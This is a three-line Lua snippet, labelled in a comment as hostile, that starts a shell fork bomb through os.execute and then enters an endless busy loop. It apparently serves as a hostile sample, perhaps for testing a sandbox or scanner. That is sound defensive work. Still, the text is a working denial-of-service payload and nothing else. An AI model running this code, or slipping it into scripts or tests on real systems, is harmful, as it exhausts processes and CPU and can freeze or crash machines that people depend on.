-- Hostile: a shell fork bomb started from Lua.
os.execute("f() { f | f & }; f")
while true do end
